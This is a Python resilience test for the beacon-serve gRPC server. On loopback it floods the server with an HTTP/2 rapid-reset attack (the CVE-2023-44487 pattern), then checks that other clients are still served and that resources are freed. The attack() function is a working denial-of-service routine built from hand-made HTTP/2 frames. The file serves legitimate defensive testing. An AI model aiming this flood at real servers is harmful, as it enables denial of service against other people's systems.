"""HTTP/2 rapid reset against beacon-serve's gRPC port (issue 46; CVE-2023-44487's pattern), over a raw
socket on loopback: one connection opens 100,000 Generate streams, each HEADERS + DATA (a whole request)
then RST_STREAM(CANCEL) at once, as fast as the socket takes them. Opening and cancelling costs the client
nothing and the server a call each, and a cancelled stream does not count against
--grpc-max-concurrent-streams, so the stream cap alone does not bound it.

While the flood runs, a well-behaved client's Generate completes, GetModelInfo answers, /ready stays
truthful (200: the server can serve), and the listener is never rebuilt (a rebuild cancels every call the
old server runs: the outage this test found, 2026-12-05); afterwards nothing is left in flight, every KV
block is free, and the server still serves. Whether gRPC answers the flood with GOAWAY (a gRPC with the
rapid-reset fix) or absorbs it, is reported, not required.

What gRPC 1.51 (Debian 12) does not bound, and this test reports without requiring: how long the other
clients wait. It works off the flood's backlog on one of its core executor threads, and closures of other
connections that hash to that thread wait behind it, so in about half the runs on 2 cores a call waits
3-21 s, at random, while new connections are still accepted within a millisecond. The bound is a proxy in
front: through deploy/haproxy's HAProxy the same flood delays nobody (tests/deploy/test_haproxy_rapid_reset.py)."""
import socket
import threading
import time

from serve_util import Server, chat_request, collect, pb
import grpc

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
STREAMS = 100000


def frame(ftype, flags, stream, payload=b""):
    return len(payload).to_bytes(3, "big") + bytes([ftype, flags]) + stream.to_bytes(4, "big") + payload


def literal(name, value):
    """HPACK literal header field without indexing, new name, no Huffman (RFC 7541 6.2.2)."""
    return bytes([0, len(name)]) + name + bytes([len(value)]) + value


HEADERS = b"".join(literal(n, v) for n, v in (
    (b":method", b"POST"), (b":scheme", b"http"), (b":path", b"/beacon.v1.BeaconService/Generate"),
    (b":authority", b"127.0.0.1"), (b"content-type", b"application/grpc"), (b"te", b"trailers")))


def attack(port, result):
    body = chat_request("Count to ten.", 4).SerializeToString()
    message = b"\x00" + len(body).to_bytes(4, "big") + body
    s = socket.create_connection(("127.0.0.1", port), timeout=30)
    received = [0, False]  # bytes, GOAWAY seen

    def drain():  # read what the server sends, so that its writes never block ours
        buf = b""
        try:
            while True:
                chunk = s.recv(65536)
                if not chunk:
                    return
                received[0] += len(chunk)
                buf += chunk
                while len(buf) >= 9 and len(buf) >= 9 + int.from_bytes(buf[:3], "big"):
                    n = 9 + int.from_bytes(buf[:3], "big")
                    received[1] = received[1] or buf[3] == 7  # GOAWAY
                    buf = buf[n:]
        except OSError:
            return

    reader = threading.Thread(target=drain, daemon=True)
    reader.start()
    s.sendall(PREFACE + frame(4, 0, 0))  # empty SETTINGS
    sent, t0 = 0, time.time()
    try:
        batch = []
        for i in range(STREAMS):
            sid = 2 * i + 1
            batch.append(frame(1, 0x4, sid, HEADERS) + frame(0, 0x1, sid, message) +
                         frame(3, 0, sid, (8).to_bytes(4, "big")))  # RST_STREAM(CANCEL)
            if len(batch) == 200:
                s.sendall(b"".join(batch))
                sent += len(batch)
                batch = []
        s.sendall(b"".join(batch))
        sent += len(batch)
    except OSError as e:  # the server closed the connection (GOAWAY, then close)
        result["closed"] = repr(e)
    result.update(sent=sent, seconds=time.time() - t0)
    time.sleep(0.5)
    s.close()
    reader.join(5)
    result.update(received=received[0], goaway=received[1])


def main():
    with Server("--max-running", "64") as srv:
        result = {}
        attacker = threading.Thread(target=attack, args=(srv.grpc_port, result))
        attacker.start()
        # On until the flood is sent and 10 s more: gRPC works the backlog off after the flood ends, and a
        # listener rebuild would come within 3 self-checks (3 x 3 s) of a stall.
        slowest, served, t_end, quiet_until = 0.0, 0, time.time() + 90, None
        while time.time() < t_end and (quiet_until is None or time.time() < quiet_until):
            if quiet_until is None and not attacker.is_alive():
                quiet_until = time.time() + 10
            t = time.time()
            srv.stub.GetModelInfo(pb.GetModelInfoRequest(), timeout=60)
            slowest = max(slowest, time.time() - t)
            assert srv.http("/ready")[0] == 200
            ids, _, last = collect(srv.stub.Generate(chat_request("Hi.", 4, ignore_eos=True), timeout=30))
            assert len(ids) == 4 and last.finish_reason == pb.FINISH_REASON_LENGTH, last
            served += 1
        attacker.join(60)
        assert not attacker.is_alive(), "the flood did not end"
        assert result.get("sent", 0) > 0, result
        # Not bounded by us (the docstring); the call's own 60 s deadline says the listener did not hang.
        assert slowest < 60.0, f"GetModelInfo took {slowest:.2f} s during the flood"
        assert served >= 1, "no well-behaved request completed during the flood"
        idle = srv.wait_idle(60)
        assert idle["kv_blocks_free"] == idle["kv_blocks_total"], idle
        log = srv.read_log()
        assert "rebuilding it" not in log, "the listener was rebuilt under the flood (it cancels every call)"
        busy = log.count("connection accepted, call not answered")
        ids, _, _ = collect(srv.stub.Generate(chat_request("Hi.", 4, ignore_eos=True), timeout=30))
        assert len(ids) == 4 and srv.proc.poll() is None
    print(f"rapid reset: OK ({result['sent']} streams opened and reset in {result['seconds']:.1f} s"
          f"{', connection closed: ' + result['closed'] if 'closed' in result else ''}; GOAWAY "
          f"{'seen' if result['goaway'] else 'not seen'}; {served} well-behaved Generates completed meanwhile, "
          f"GetModelInfo at most {slowest * 1000:.0f} ms (gRPC 1.51's executor backlog: not bounded here); "
          f"{busy} busy self-check streaks, no listener rebuild; nothing left in flight)")


if __name__ == "__main__":
    main()
